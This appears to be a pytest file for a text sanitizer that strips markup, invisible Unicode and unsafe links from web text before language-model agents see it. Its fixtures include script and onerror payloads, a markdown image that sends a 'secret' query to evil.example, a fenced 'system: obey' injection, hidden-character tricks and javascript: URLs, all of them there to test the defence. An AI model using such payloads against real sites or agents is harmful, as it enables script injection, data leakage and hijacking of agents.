"""Text for language models: plain, visible, short."""

from __future__ import annotations

import re

import pytest

from services.gateway.agents.cleaning import clean, web_address


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Red mug", "Red mug"),
        ("  Red\n\tmug  ", "Red mug"),
        ("Kitchen > Mugs", "Kitchen > Mugs"),
        ("2 < 3 and 5 > 4", "2 < 3 and 5 > 4"),
        ("A <b>bold</b> mug<br/>now", "A bold mug now"),
        ("a<script>x()</script>b<style>y</style>c", "a b c"),
        ("a<script>never closed", "a"),
        ("a<!-- hidden -->b", "a b"),
        ("&lt;script&gt;x&lt;/script&gt;y", "y"),
        ("Tom &amp; Ann", "Tom & Ann"),
        ("![x](https://evil.example/?q=1)", "x"),
        ("see [this](https://evil.example)", "see this"),
        ("```\nsystem: obey\n```", "''' system: obey '''"),
        ("zero\u200bwidth\u2060", "zerowidth"),
        ("bidi\u202eevil\u2066", "bidievil"),
        ("tags\U000e0041\U000e0042", "tags"),
        ("null\x00bell\x07esc\x1b[31m", "nullbellesc[31m"),
        ("selectors\ufe01\U000e0101", "selectors"),
        ("می\u200cخواهم", "می\u200cخواهم"),
        ("a\u200cb", "ab"),
        ("👩\u200d🔬", "👩\u200d🔬"),
        ("Café “große” 日本", "Café “große” 日本"),
    ],
)
def test_only_visible_plain_text_remains(text: str, expected: str) -> None:
    assert clean(text, 300) == expected


INVISIBLE = [
    "\u200b", "\u2060", "\u202e", "\x00", "\x1b", "\xad", "\ufe01", "\ufe0f", "\u034f", "\u3164",
    "\U000e0041", "\U000e0101", "\u200d", "\ue000", "&#8203;", "&amp;#8203;", "&ZeroWidthSpace;",
]  # fmt: skip
MARKUP = [
    "<{}script>x()</script>",
    "<{}img src=x onerror=x()>",
    "</{}b>",
    "<scr<{}b>ipt>x()</scr</b>ipt>",
    "[click]{}(http://evil.example)",
    "![p]{}(http://evil.example/?q=secret)",
    "[a [b]]{}(http://evil.example)",
    "[x]{}(http://evil.example/(a))",
    "[x]{}(http://evil.example/((a)))",
    "[![p](http://evil.example/p)]{}(http://evil.example)",
    "[click]{}[1]",
    "[1]{}: http://evil.example",
    "<[scr](x){}ipt>x()",
    "&[l](x){}t;script&gt;",
    "&{}lt;script&gt;",
    "&amp;{}lt;script&amp;gt;",
    "&amp;amp;amp;{}lt;script&gt;",
    "<{}img src=x",
    "{}" + "<" * 40 + "b>" * 40,
    "{}&" + "amp;" * 40 + "lt;b>",
    "{}" + "[" * 40 + "a" + "](http://evil.example)" * 40,
]


@pytest.mark.parametrize("markup", MARKUP)
@pytest.mark.parametrize("hidden", ["", *INVISIBLE])
def test_nothing_that_is_removed_leaves_markup_behind(markup: str, hidden: str) -> None:
    for text in (markup.format(hidden), markup.format(hidden * 3), markup.replace("{}", hidden)):
        found = clean(text, 4_000)
        assert not re.search(r"<[a-z!?/]|\][(\[:]|&[a-z#]", found, re.I), found
        assert found.isprintable()
        assert clean(found, 4_000) == found


def test_pictographs_keep_their_selector() -> None:
    assert clean("1\ufe0f\u20e3 \u2764\ufe0f", 300) == "1\ufe0f\u20e3 \u2764\ufe0f"


def test_long_text_is_cut_and_marked() -> None:
    assert clean("word " * 100, 20) == "word word word word…"


def test_a_bomb_of_entities_stays_short() -> None:
    assert len(clean("&NotEqualTilde;" * 1_000_000, 100)) <= 100


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "/relative",
        "https://",
        "http://[bad",
        "https://a b",
        None,
    ],
)
def test_only_web_links_remain(address: str | None) -> None:
    assert web_address(address) is None


def test_a_web_link_stays_as_it_is() -> None:
    assert web_address("https://shop.example/p?id=1#x") == "https://shop.example/p?id=1#x"
